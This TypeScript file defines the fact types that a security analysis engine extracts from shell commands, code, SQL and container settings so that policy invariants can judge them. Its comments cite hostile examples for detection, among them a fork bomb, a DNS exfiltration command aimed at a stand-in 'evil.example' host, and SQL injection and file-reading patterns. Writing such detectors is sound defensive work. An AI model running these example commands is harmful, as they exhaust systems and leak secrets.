/**
 * The facts vocabulary (docs/architecture.md): every runtime extractor turns a syntax tree into
 * these records, and the 15 invariants are written once, over facts, never per grammar.
 *
 * Conventions every extractor follows:
 * - Strings are as the program would see them: quotes removed, escapes resolved, variables
 *   assigned earlier in the same input substituted. An expansion that cannot be resolved stays
 *   as written (`$X`, `$(cmd)`, `*`) and the fact is marked `dynamic`.
 * - Paths keep `~` for the home directory (`$HOME` and `${HOME}` are rewritten to `~`); they are
 *   not resolved against the workspace here: invariants do that with the policy.
 * - Spans point into the text the caller submitted. Facts from nested code (bash -c '...',
 *   python -c, os.system(...)) carry the span of the outer string literal that held the code,
 *   and `depth` counts how many times the engine re-entered (0 at the top level).
 * - Extractors may add optional fields; never change the meaning of an existing one.
 */
import type { Runtime, Span } from './types.js';
import type { HostNeed } from './knowledge/host-tools.js';

interface FactBase {
  readonly span: Span;
  /** Runtime whose extractor produced the fact (nested code reports its own runtime). */
  readonly runtime: Runtime;
  /** 0 for the submitted text, +1 for each nested re-entry. */
  readonly depth: number;
}

/** A program is run. */
export interface ExecFact extends FactBase {
  readonly kind: 'exec';
  /** Normalised program name: basename, no quotes/backslashes (`/bin/rm`, `\rm`, `r''m` → `rm`). */
  readonly program: string;
  /** Full argv, argv[0] as written after unquoting. */
  readonly argv: readonly string[];
  /** Program name or an argument came from an expansion that could not be resolved. */
  readonly dynamic: boolean;
  /**
   * The program that started this one when it was not started by the shell directly:
   * 'find' for find -exec, 'xargs', 'vim', 'awk', 'python' (os.system), 'docker' (run ... cmd),
   * 'ssh' (remote command), 'sudo', 'env', 'timeout', 'nohup'... Undefined at the top level.
   */
  readonly via?: string;
  /** Standard input is an interactive terminal or nothing (no pipe, no here-doc, no redirect). */
  readonly stdinInteractive?: boolean;
}

export type FileOperation =
  | 'read'
  | 'write'
  | 'append'
  | 'create'
  | 'delete'
  | 'truncate'
  | 'move'
  | 'copy'
  | 'link'
  | 'chmod'
  | 'chown'
  | 'execute';

/** A file or directory is touched. Redirections produce these too (`> /etc/passwd` is a write). */
export interface FileOpFact extends FactBase {
  readonly kind: 'file';
  readonly op: FileOperation;
  readonly path: string;
  readonly recursive: boolean;
  /** The program (or API, e.g. 'shutil.rmtree', 'fs.rmSync') that performs the operation. */
  readonly actor: string;
  /** chmod mode as written ('777', 'u+s', '4755'); umask value for 'umask'. */
  readonly mode?: string;
  /** chown owner as written. */
  readonly owner?: string;
  /** Path contains an unresolved expansion or glob. */
  readonly dynamic?: boolean;
  /**
   * (RULES) For 'copy' | 'move' | 'link': which end of the operation `path` is. Emit one fact per
   * end: cp a b → {op:'copy', path:'a', role:'source'} and {op:'copy', path:'b', role:'destination'}
   * (mv likewise with op 'move'; ln target/link name likewise with op 'link'). Invariants treat a
   * missing role as 'destination' (the conservative reading), so sources should be marked.
   */
  readonly role?: 'source' | 'destination';
  /**
   * (write/append by python or node code, or a file tool) the whole text written to `path` by this
   * input, when every write to it is statically known; absent when any part is unknown.
   */
  readonly text?: string;
  /**
   * (read by python or node code) 'sign-in': the content only signs a client in
   * (code/secret-logins.ts); (read) 'setting': only lines of a non-secret setting are kept from it
   * (programs/setting-grep.ts, code/setting-reads.ts).
   */
  readonly use?: 'sign-in' | 'setting';
}

/** Network access. */
export interface NetOpFact extends FactBase {
  readonly kind: 'net';
  /** Host as written (lowercased); IPs are not normalised here (invariants decode 0xA9FEA9FE etc.). */
  readonly host: string;
  readonly port?: number;
  readonly url?: string;
  readonly scheme?: string;
  readonly direction: 'connect' | 'listen';
  /** The operation uploads data (a body, a file, stdin, a form). */
  readonly sends: boolean;
  readonly actor: string;
  /**
   * (code) The request runs many times in a row with no pause (a loop of thousands of turns, an
   * endless loop, a timer every few ms): why, in words (extract/code/repeats.ts).
   */
  readonly repeated?: string;
  /** (code) The request logs in once per entry of a password or user list: the list's path. */
  readonly guesses?: string;
  /** (code) A hand-built packet lies about its sender (ARP spoofing, a forged source, deauth frames): how. */
  readonly forges?: string;
  /** (code) A message is sent once per entry of a list come by rather than kept (scraped, bought), or with a look-alike link: the list and why. */
  readonly spams?: string;
}

/** Where data comes from, for flows. */
export type DataSource =
  /** `host`: the one machine whose entry was looked up (netrc's authenticators(host)), when known. */
  | { readonly kind: 'file'; readonly path: string; readonly host?: string }
  /** Environment variables: one by name, or the whole environment (env, printenv, /proc/self/environ). */
  | { readonly kind: 'env'; readonly name?: string }
  /** Content downloaded from the network. */
  | { readonly kind: 'net'; readonly host: string; readonly url?: string }
  /** Content decoded from an encoding (base64 -d, xxd -r, atob, b64decode). */
  | { readonly kind: 'decoded' }
  /** Output of a command whose content is not otherwise known. */
  | { readonly kind: 'output'; readonly program: string }
  /**
   * What a web page holds for its user (browser code, extract/node/page.ts): `cookies`, `storage`
   * (all of web storage), `storage:KEY` (one item), `input` (what the user typed into its fields);
   * `request-auth`: a server's client's credential read from its request (code/client-credentials.ts).
   */
  | { readonly kind: 'page'; readonly what: string };

/** Where data goes, for flows. */
export type DataSink =
  /** `auth`: sent as the request's credentials (curl -u, an Authorization header, --oauth2-bearer). */
  | { readonly kind: 'net'; readonly host: string; readonly url?: string; readonly auth?: boolean }
  /** Executed as code by an interpreter or shell (sh, bash, python, node, eval, exec). */
  | { readonly kind: 'exec'; readonly program: string }
  | { readonly kind: 'file'; readonly path: string }
  /** Used to build a DNS name that is resolved (dig $(cat secret).evil.example). */
  | { readonly kind: 'dns'; readonly host: string };

/** Data moves from a source to a sink, directly or through pipes, substitutions and variables. */
export interface FlowFact extends FactBase {
  readonly kind: 'flow';
  readonly from: DataSource;
  readonly to: DataSink;
}

export type SqlStatementKind =
  | 'select'
  | 'insert'
  | 'update'
  | 'delete'
  | 'truncate'
  | 'drop'
  | 'alter'
  | 'create'
  | 'grant'
  | 'revoke'
  | 'copy'
  | 'load'
  | 'call'
  | 'other';

/** One SQL statement, from a direct SQL input or a query string inside code or a psql -c argument. */
export interface SqlStmtFact extends FactBase {
  readonly kind: 'sql';
  readonly statement: SqlStatementKind;
  /** What a DDL statement acts on: 'table', 'database', 'schema', 'role', 'user', 'column'... */
  readonly object?: string;
  /** Target table or object names as written. */
  readonly targets: readonly string[];
  /** UPDATE/DELETE: a WHERE clause is present. */
  readonly hasWhere?: boolean;
  /** The WHERE clause is always true (1=1, true, 'a'='a', x=x, OR 1=1). */
  readonly tautologicalWhere?: boolean;
  /** ALTER TABLE ... DROP COLUMN/CONSTRAINT. */
  readonly dropsColumn?: boolean;
  /** GRANT ALL / ALL PRIVILEGES. */
  readonly grantsAll?: boolean;
  /** CREATE/ALTER ROLE|USER with SUPERUSER, or a MySQL grant WITH GRANT OPTION on *.* */
  readonly createsSuperuser?: boolean;
  /** INTO OUTFILE/DUMPFILE target, COPY ... TO 'file'. */
  readonly writesFile?: string;
  /** COPY ... TO/FROM PROGRAM command. */
  readonly runsProgram?: string;
  /** Functions called, lowercased without schema ('pg_read_file', 'load_file', 'dblink'). */
  readonly functions: readonly string[];
  /** Tables read, lowercased with schema when written ('pg_shadow', 'mysql.user'). */
  readonly readsTables: readonly string[];
  /** The parser rejected the statement and a keyword fallback produced this fact. */
  readonly fallback?: boolean;
  readonly text: string;
  // Optional SQL fields (SQL-DOCKER, src/engine/extract/sql.ts):
  /** Which front end read the statement: 'postgresql', 'mysql', 'sqlite' or 'keyword' (fallback). */
  readonly dialect?: 'postgresql' | 'mysql' | 'sqlite' | 'keyword';
  /** Server-side file read: COPY ... FROM 'file', LOAD DATA [LOCAL] INFILE, BULK INSERT ... FROM. */
  readonly readsFile?: string;
  /** Shared library loaded into the server: LOAD 'lib', CREATE FUNCTION ... LANGUAGE C AS 'lib'. */
  readonly loadsLibrary?: string;
  /** Remote server the statement makes the database connect to (MySQL FEDERATED CONNECTION=...). */
  readonly connectsTo?: string;
  /** Server settings changed (ALTER SYSTEM SET name, SET name, sp_configure 'name'), lowercased. */
  readonly settings?: readonly string[];
  /** Roles granted to someone (GRANT pg_read_server_files TO x; CREATE ROLE ... IN ROLE), lowercased. */
  readonly grantsRoles?: readonly string[];
  /** Package- or schema-qualified function names as written, lowercased ('utl_http.request'). */
  readonly qualifiedFunctions?: readonly string[];
  /** Selected columns whose names hold passwords or hashes (password, passwd, authentication_string). */
  readonly credentialColumns?: readonly string[];
  /** The statement combines SELECTs with UNION (the shape of an injected credential dump). */
  readonly union?: boolean;
  /**
   * DROP of temporary tables only: `#name`, DROP TEMPORARY TABLE, or tables created TEMP/TEMPORARY
   * earlier in the same input (a temporary table shadows a permanent one of the same name).
   */
  readonly temporary?: boolean;
  /**
   * The whole SQL input has the shape of an injection payload (extract/sql/injection.ts): what it
   * does, in words. Set on the input's first statement only.
   */
  readonly injection?: string;
}

/** A loop or recursion. */
export interface LoopFact extends FactBase {
  readonly kind: 'loop';
  /** The loop has no finite bound (while true, while :, for(;;), while True). */
  readonly unbounded: boolean;
  /** The body sleeps or waits. */
  readonly sleeps: boolean;
  /** The body can leave the loop (break, exit, return). */
  readonly exits: boolean;
  /** The body forks itself (fork bomb `:(){ :|:& };:`, os.fork in a loop). */
  readonly forks: boolean;
}

/** A container is started or configured (docker run/create/exec flags, compose, Dockerfile). */
export interface ContainerFact extends FactBase {
  readonly kind: 'container';
  readonly privileged: boolean;
  readonly mounts: readonly {
    readonly source: string;
    readonly target: string;
    readonly readOnly: boolean;
  }[];
  readonly hostNamespaces: readonly ('pid' | 'net' | 'ipc' | 'uts' | 'userns' | 'cgroupns')[];
  readonly capAdd: readonly string[];
  readonly securityOpt: readonly string[];
  readonly devices: readonly string[];
  readonly image?: string;
  readonly user?: string;
  /** (docker) The service runs with its authentication off and is published on every interface. */
  readonly unauthenticated?: string;
  /** (docker) A public service's name pinned to an outside address (extra_hosts, --add-host; pinned-hosts.ts). */
  readonly pinnedHosts?: string;
  /** (docker) Options come from an expansion the input does not resolve (`docker run $FLAGS img`). */
  readonly unknownFlags?: string;
  /** (docker) The image is a known tool whose job needs part of the host (its name and needs), run with its own entrypoint. */
  readonly hostTool?: {
    readonly name: string;
    readonly needs: readonly HostNeed[];
  };
  /**
   * (docker) The one program the container runs directly, no shell between (`docker:cli ps` →
   * docker, `node:20 npm ci` → npm), from a publisher trusted to ship that program (official-images.ts).
   */
  readonly runs?: string;
}

/**
 * A literal string in the input (argument, string constant, here-doc, tool-call argument). The
 * text invariants (PII, prompt injection) read these.
 */
export interface LiteralFact extends FactBase {
  readonly kind: 'literal';
  readonly text: string;
  /** The literal is carried to a network sink or sits in a tool-call payload. */
  readonly egress: boolean;
  /**
   * (SQL-DOCKER, tool calls) Dotted path of the JSON argument the literal came from
   * (`to`, `message.body`, `recipients.0`); lets PII rules tell an addressing field from leaked data.
   */
  readonly field?: string;
  /** (tool calls) The field names whom the call reaches under its own key (a payment's payee). */
  readonly addressing?: boolean;
}

/** Part of the input that did not parse; invariants deny when risky tokens sit inside. */
export interface UnparsedFact extends FactBase {
  readonly kind: 'unparsed';
  readonly text: string;
}

/**
 * The analysis ran out of its work budget (src/engine/budget.ts) and stopped early: the facts
 * beside this one are incomplete, so ENG-AST-002 denies. Added by analyze(), not by extractors.
 */
export interface BudgetFact extends FactBase {
  readonly kind: 'budget';
  /** Units spent before the refused spend. */
  readonly used: number;
  readonly limit: number;
  /** Label of the work that was refused ('sql statements', 'brace expansion'). */
  readonly where: string;
}

export type Fact =
  | ExecFact
  | FileOpFact
  | NetOpFact
  | FlowFact
  | SqlStmtFact
  | LoopFact
  | ContainerFact
  | LiteralFact
  | UnparsedFact
  | BudgetFact;

export type FactKind = Fact['kind'];
export type FactOf<K extends FactKind> = Extract<Fact, { kind: K }>;
